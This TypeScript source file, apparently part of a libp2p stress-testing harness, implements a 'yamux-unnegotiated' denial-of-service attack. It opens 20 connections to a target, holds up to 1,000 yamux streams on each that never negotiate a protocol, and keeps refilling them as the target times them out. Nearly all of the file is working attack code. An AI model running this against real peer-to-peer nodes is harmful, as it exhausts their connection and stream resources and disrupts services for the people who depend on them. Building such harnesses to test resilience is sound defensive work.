/**
 * Yamux attack: many connections, each holding many streams that never negotiate a protocol. The
 * streams are opened on the muxer directly (`connection.muxer`, libp2p's own field: newStream would
 * run multistream-select); half send nothing, half only the multistream header, and the attacker
 * tops each connection up again as the target times streams out.
 */
import type { Connection } from '@libp2p/interface'
import type { Attack } from './common.ts'
import { attackerNode, lpFrame, sleep, workers } from './common.ts'

const MSS_HEADER = lpFrame(new TextEncoder().encode('/multistream/1.0.0\n'))

interface RawMuxer { streams: unknown[], status: string, createStream(options?: object): Promise<{ send(b: Uint8Array): boolean }> }

/** Row 2: 20 connections x 1 000 yamux streams that never negotiate. */
const yamuxUnnegotiated: Attack = async (ctx) => {
  const perConnection = ctx.num('streams', 1_000)
  const count = ctx.num('connections', 20)
  const nodes = await Promise.all(Array.from({ length: Math.min(count, ctx.num('sources', 1)) }, async (_, i) => attackerNode(ctx.source(i))))
  let announced = false
  // one dial at a time: libp2p joins concurrent dials to one peer into one connection, even forced
  let dialing: Promise<unknown> = Promise.resolve()
  const dial = async (node: typeof nodes[number]): Promise<Connection> => {
    const next = dialing.then(async () => node.dial(ctx.target, { force: true, signal: AbortSignal.timeout(5_000) }))
    dialing = next.catch(() => {})
    return next
  }
  await workers(count, async (i) => {
    const node = nodes[i % nodes.length]
    let conn: Connection | undefined
    while (!ctx.over) {
      if (conn == null || conn.status !== 'open') {
        try {
          conn = await dial(node)
          ctx.count('connections')
        } catch {
          ctx.count('dialFailures')
          await sleep(250)
          continue
        }
      }
      const muxer = (conn as unknown as { muxer?: RawMuxer }).muxer
      if (muxer == null || muxer.status !== 'open') { conn = undefined; continue }
      let opened = 0
      while (muxer.streams.length < perConnection && !ctx.over && opened < 200) {
        try {
          const stream = await muxer.createStream({})
          if (ctx.stats.streams % 2 === 1) stream.send(MSS_HEADER)
          ctx.count('streams')
          opened++
        } catch {
          ctx.count('streamFailures')
          break
        }
      }
      if (!announced && (ctx.stats.streams ?? 0) >= perConnection) {
        announced = true
        ctx.started()
      }
      await sleep(opened === 200 ? 0 : 250)
    }
  })
  ctx.started()
  await Promise.all(nodes.map(async n => { await n.stop() }))
  return undefined
}

export const yamuxAttacks: Record<string, Attack> = { 'yamux-unnegotiated': yamuxUnnegotiated }
